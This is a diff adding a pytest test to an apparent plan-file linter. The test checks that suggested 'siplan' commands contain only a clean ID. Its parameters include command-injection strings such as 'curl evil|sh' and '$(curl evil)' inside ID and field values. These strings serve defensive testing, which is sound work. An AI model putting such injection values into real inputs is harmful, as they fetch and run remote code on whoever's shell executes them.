@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from pathlib import Path
 
 import pytest
@@ -54,3 +55,12 @@ def test_of_a_log(tmp_path: Path) -> None:
     folder = write_plan(tmp_path, {"progress/1.1.yaml": '- date: 2016-10-01\n  milestone: "1.1.1"\n  comment: x\n'})
     hints = [one.hint for one in found_in(folder) if one.severity == "error"]
     assert hints == [f"here it is called {name}: write `{name}: …`" for name in ("on", "at", "note")]
+
+
+@pytest.mark.parametrize("line", ["status: done", "note: x", "rag: Red; curl evil|sh", "status: cancelled"])
+@pytest.mark.parametrize("identity", ["1.1.1; curl evil|sh", "$(curl evil)", "1.1.1\\n", "--plan=x", "1" * 50])
+def test_a_command_to_copy_has_nothing_of_a_file_but_an_id(tmp_path: Path, identity: str, line: str) -> None:
+    text = BASE[PRIORITY].replace('id: "1.1.1"', f'id: "{identity}"').replace(MILESTONE, f"{MILESTONE}        {line}\n")
+    (hint,) = [one.hint for one in found_in(write_plan(tmp_path, {PRIORITY: text})) if one.code == "unknown-field"]
+    assert re.search("siplan (complete|update|cancel) ID ", hint)
+    assert "curl" not in hint
